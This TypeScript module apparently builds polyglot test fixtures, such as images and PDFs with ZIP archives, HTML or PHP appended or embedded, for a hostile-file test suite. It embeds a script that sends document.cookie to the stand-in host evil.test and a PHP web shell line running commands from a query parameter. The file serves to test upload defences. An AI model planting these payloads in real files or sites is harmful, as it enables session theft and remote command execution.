import { archive } from './archive.ts';
import { family, type HostileFile } from './hostile-file.ts';
import { pdfByHand } from './pdf-by-hand.ts';
import { smallPicture } from './small-picture.ts';
import { chunk } from './png-by-hand.ts';

const page = '<html><body><script>fetch("//evil.test/"+document.cookie)</script></body></html>';

// A JPEG comment before the image data.
export function withRemark(jpeg: Buffer, remark: Buffer | string): Buffer {
  const body = Buffer.from(remark);
  const head = Buffer.alloc(4);
  head.writeUInt16BE(0xfffe, 0);
  head.writeUInt16BE(body.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), head, body, jpeg.subarray(2)]);
}

export async function polyglots(): Promise<HostileFile[]> {
  const jpeg = (n: number) => smallPicture(`polyglot ${n}`);
  const png = (n: number) => smallPicture(`polyglot ${n}`, 'png');
  const webp = await smallPicture('polyglot webp', 'webp');
  const zipped = await jpeg(1);
  const pdf = pdfByHand({}, 'polyglot');
  return family('polyglot', [
    ['JPEG and ZIP', 'a.jpg', Buffer.concat([zipped, archive('run.jar', 'class', zipped.length)])],
    ['JPEG and PDF', 'a.jpg', Buffer.concat([await jpeg(2), pdfByHand({}, 'tail')])],
    ['JPEG and page in its remark', 'a.jpg', withRemark(await jpeg(3), page)],
    ['JPEG and PHP', 'a.jpg', Buffer.concat([await jpeg(4), Buffer.from('<?php system($_GET["c"]); ?>')])],
    ['PNG and page after it', 'a.png', Buffer.concat([await png(5), Buffer.from(page)])],
    ['PNG and page in its text', 'a.png', withText(await png(6), page)],
    ['WebP and ZIP', 'a.webp', Buffer.concat([webp, archive('x.html', page, webp.length)])],
    ['PDF and ZIP', 'a.pdf', Buffer.concat([pdf, archive('x.html', page, pdf.length)])],
    ['PDF and page before its objects', 'a.pdf', withHead(pdfByHand({}, 'head'), page)],
    ['PDF and page after its end', 'a.pdf', Buffer.concat([pdfByHand({}, 'after'), Buffer.from(page)])],
  ]);
}

const withHead = (pdf: Buffer, text: string) =>
  Buffer.concat([pdf.subarray(0, 9), Buffer.from(`${text}\n`), pdf.subarray(9)]);
export const withText = (png: Buffer, text: string) =>
  Buffer.concat([
    png.subarray(0, 33),
    chunk('tEXt', Buffer.concat([Buffer.from('Comment\0'), Buffer.from(text)])),
    png.subarray(33),
  ]);
